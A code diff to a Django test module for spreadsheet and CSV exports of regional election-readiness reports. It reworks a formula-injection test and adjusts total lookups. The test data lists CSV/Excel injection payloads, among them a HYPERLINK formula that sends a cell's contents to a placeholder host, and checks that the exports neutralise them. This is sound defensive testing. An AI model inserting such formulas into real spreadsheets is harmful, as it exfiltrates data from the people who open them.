@@ -4,13 +4,13 @@ Excel opens, formulas that never run, and downloads after forwarding identical t
 import csv
 import datetime as dt
 import io
+from itertools import cycle
 
 import openpyxl
 import pytest
 from django.conf import settings
 from django.test import override_settings
 from django.urls import reverse
-from django.utils.text import capfirst
 from pypdf import PdfReader
 
 from regions.models import Region
@@ -18,18 +18,26 @@ from reports.brief.exports import COLUMNS, StaticFilesFetcher, csv_bytes, safe_c
 from reports.brief.forwarding import digest
 from reports.brief.letter import indonesian
 from reports.models import FollowUp, ForwardedBrief, RakorSession, ReadinessReport
+from reports.registry import FIELDS_BY_NAME, Kind, Place, of_kind
 from reports.rollup.summary import summary
 
 pytestmark = pytest.mark.django_db
 
 HEADERS = [column.header for column in COLUMNS]
+FORMULAS = (
+    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
+    "+1",
+    "@SUM(A1:A2)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+)
+# A formula in every text of the report the files show.
 INJECTIONS = {
-    "notes": '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
-    "security_notes": "+1",
-    "asn_notes": "@SUM(A1:A2)",
-    "logistics_notes": "-2+3",
-    "conflict_notes": "\t=1+1",
-    "ektp_notes": "\r=1+1",
+    field.name: formula
+    for field, formula in zip(
+        (field for field in of_kind(Kind.TEXT) if field.shown_in(Place.FILES)), cycle(FORMULAS), strict=False
+    )
 }
 
 
@@ -117,8 +125,8 @@ def test_the_xlsx_has_a_row_per_region_typed_cells_and_the_right_totals(desk, de
     for header, expected in (
         ("Personel pengamanan", 6_394),
         ("Pelanggaran netralitas ASN", 0),
-        ("Kecamatan siap", result.totals.kecamatan_ready),
-        ("Jumlah kecamatan", result.totals.kecamatan_total),
+        ("Kecamatan siap", result.totals.figures["kecamatan_ready"].value),
+        ("Jumlah kecamatan", result.totals.figures["kecamatan_ready"].out_of),
         ("Pemilih pemula", 119_600),
         ("DPT", result.totals.registered_voters),
         ("TPS", result.totals.polling_stations),
@@ -191,8 +199,9 @@ def test_formula_injection_is_neutralised_in_xlsx_and_csv(demo):
         row for row in csv.reader(io.StringIO(table), delimiter=";") if row[1] == "Kabupaten Paser"
     )
     for name, value in INJECTIONS.items():
-        header = capfirst(str(ReadinessReport._meta.get_field(name).verbose_name))
-        assert paser[header].value == f"'{value}".replace("\r", "\n")  # XML reads a lone CR as LF
+        header = FIELDS_BY_NAME[name].label
+        # openpyxl keeps a lone CR when lxml writes the sheet; the standard library's writer makes it LF.
+        assert paser[header].value.replace("\r", "\n") == f"'{value}".replace("\r", "\n")
         assert paser[header].data_type == "s"
         assert csv_paser[HEADERS.index(header)] == f"'{value}"
     follow_ups = book["Peringatan dan tindak lanjut"]
